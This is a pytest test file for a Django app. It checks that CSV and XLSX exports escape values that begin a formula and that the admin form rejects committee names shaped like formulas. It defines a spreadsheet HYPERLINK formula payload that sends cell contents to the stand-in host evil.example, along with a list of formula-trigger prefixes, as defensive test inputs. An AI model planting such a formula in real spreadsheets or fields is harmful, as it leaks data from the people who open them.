"""Issue 11, item 3: no spreadsheet the product writes carries a live formula, and admin forms refuse names that
would be one."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from people.models import Committee
from people.spreadsheets import spreadsheet_export
from tests import factories

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
TRIGGERS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "＝1", "＋1", "－1", "＠x", "\t=1", "\r=1"]


def _xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_the_one_writer_neutralises_every_formula_start_in_csv_and_xlsx():
    rows = [[value, 3, -0.25] for value in TRIGGERS]
    content, _type = spreadsheet_export(headers=["名称", "人数", "区分度"], rows=rows, file_format="csv")
    parsed = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in parsed[1:]] == ["'" + value for value in TRIGGERS]
    content, _type = spreadsheet_export(headers=["名称", "人数", "区分度"], rows=rows, file_format="xlsx")
    cells = _xlsx_cells(content)
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.column == 1][1:]
    assert texts == ["'" + value for value in TRIGGERS]
    assert [cell.value for cell in cells if cell.column == 3][1:] == [-0.25] * len(TRIGGERS)  # numbers stay numbers


@pytest.fixture
def evil_committee(world):
    committee = world["labor"]
    Committee.objects.filter(pk=committee.pk).update(name=EVIL)  # as if typed in before the admin refused it
    return committee


@pytest.mark.parametrize(("page", "export"), [("coverage:region", "coverage"), ("coverage:flags", "no_woman")])
def test_coverage_and_red_flag_downloads_carry_the_name_as_text(world, client, evil_committee, page, export):
    client.force_login(factories.bureau_staff(jurisdiction=world["county"]))
    url = reverse(page, args=[world["county"].code])
    text = client.get(url, {"export": export, "format": "csv"}).getvalue().decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert "'" + EVIL in names and EVIL not in names
    cells = _xlsx_cells(client.get(url, {"export": export, "format": "xlsx"}).getvalue())
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL in [cell.value for cell in cells]


def test_item_analysis_export_is_formula_safe(client):
    from assessments import services
    from tests.assessments import factories as af

    question = af.question(text="-5 是负数吗？")
    quiz = af.quiz(questions=[question])
    learner = factories.mediator()
    attempt = services.attempt_start(user=learner, quiz=quiz)
    services.attempt_submit(attempt_id=attempt.pk, user=learner)
    client.force_login(factories.administrator(is_superuser=True))
    response = client.get(reverse("assessments:quiz_results", args=[quiz.pk]), {"export": "csv"})
    text = response.content.decode("utf-8-sig")
    assert "'-5 是负数吗？" in text and "\n-5" not in text and ",-5" not in text


def test_the_admin_refuses_a_formula_as_a_committee_name(client, townships):
    client.force_login(factories.bureau_staff(jurisdiction=townships[0]))
    response = client.post("/admin/snippets/people/committee/add/", {
        "name": EVIL, "region": townships[0].pk, "kind": "village", "specialty": ""})
    assert response.status_code == 200 and "不能以" in response.content.decode()
    assert not Committee.objects.filter(name=EVIL).exists()
